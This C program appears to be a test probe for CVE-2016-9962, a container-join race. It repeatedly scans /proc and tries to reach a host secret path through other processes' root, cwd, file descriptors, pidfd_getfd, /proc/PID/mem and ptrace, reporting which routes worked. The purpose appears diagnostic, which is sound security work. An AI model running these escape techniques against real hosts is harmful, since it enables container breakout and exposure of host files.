/*
 *     peek SECRET
 *
 * CVE-2016-9962: looks into every process that it sees, again and again, before whoever joins the container has become the
 * program that was asked for; SECRET is a path of the host. Until it is killed. It prints
 *
 *     reached PATH       SECRET could be read by this way
 *     fd TARGET          a descriptor that is no pipe and not /dev/null, which is all that programs are given here
 *     traced COMM        a process that is not one of /bin could be traced
 *     read COMM          its memory could be read
 *     looked N           how often it has gone round
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;
static struct {
    dev_t device;
    ino_t inode;
    char name[32];
} own[64];
static int count;

static void once(const char *what, const char *which)
{
    static char said[64][400];
    static int lines;
    char line[400];
    snprintf(line, sizeof line, "%s %s", what, which);
    for (int i = 0; i < lines; i++)
        if (strcmp(said[i], line) == 0)
            return;
    if (lines < 64)
        strcpy(said[lines++], line);
    puts(line);
}

/*
 * A program of /bin: then the process is what was asked for, and the container's. That is seen by its program, and by its name
 * when it has none any more: one that ends has no memory for a moment, and with that nothing that protects it. In this order: what
 * had a program of /bin and none afterwards has its name too, which an exec gives after it has let others in.
 */
static int is_own(int pid, char comm[32])
{
    char path[64];
    struct stat seen;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int has_program = stat(path, &seen) == 0;
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = file < 0 ? -1 : read(file, comm, 31);
    comm[n > 0 ? n - 1 : 0] = 0;
    if (file >= 0)
        close(file);
    for (int i = 0; i < count; i++)
        if (strcmp(own[i].name, comm) == 0 || (has_program && own[i].device == seen.st_dev && own[i].inode == seen.st_ino))
            return 1;
    return n <= 0;
}

static void from(const char *start)
{
    char path[4096], text[64];
    snprintf(path, sizeof path, "%s%s", start, secret);
    int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (file >= 0 && read(file, text, sizeof text) > 0)
        once("reached", strchr(start + 6, '/'));
    if (file >= 0)
        close(file);
}

static void look_at(int pid)
{
    char path[600], target[256], comm[32] = "", text[1];
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    from(path);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    from(path);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        if (*entry->d_name == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
        from(path);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = 0;
        if (n > 0 && strncmp(target, "pipe:", 5) != 0 && strcmp(target, "/dev/null") != 0)
            once("fd", target);
    }
    if (dir)
        closedir(dir);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file >= 0) {
        /* Before Linux 6.18 it opens for who has ended, too, and is empty; of memory that is there, page 0 is an error. */
        if (pread(file, text, 1, 0) != 0 && !is_own(pid, comm))
            once("read", comm);
        close(file);
    }
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 12; fd++) {
        int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (got >= 0) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", got);
            from(path);
            close(got);
        }
    }
    if (pidfd >= 0)
        close(pidfd);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        int status;
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
        while (waitpid(pid, &status, __WALL) < 0 && errno == EINTR)
            ;
        if (WIFSTOPPED(status)) {
            if (!is_own(pid, comm))
                once("traced", comm);
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    secret = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    DIR *bin = opendir("/bin");
    for (struct dirent *entry; bin && (entry = readdir(bin));) {
        struct stat seen;
        if (fstatat(dirfd(bin), entry->d_name, &seen, 0) == 0 && count < 64) {
            own[count].device = seen.st_dev;
            own[count].inode = seen.st_ino;
            snprintf(own[count++].name, sizeof own->name, "%.31s", entry->d_name);
        }
    }
    puts("ready");
    for (unsigned long rounds = 1;; rounds++) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        for (struct dirent *entry; (entry = readdir(proc));)
            if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
                look_at(atoi(entry->d_name));
        closedir(proc);
        if ((rounds & (rounds - 1)) == 0)
            printf("looked %lu\n", rounds);
    }
}
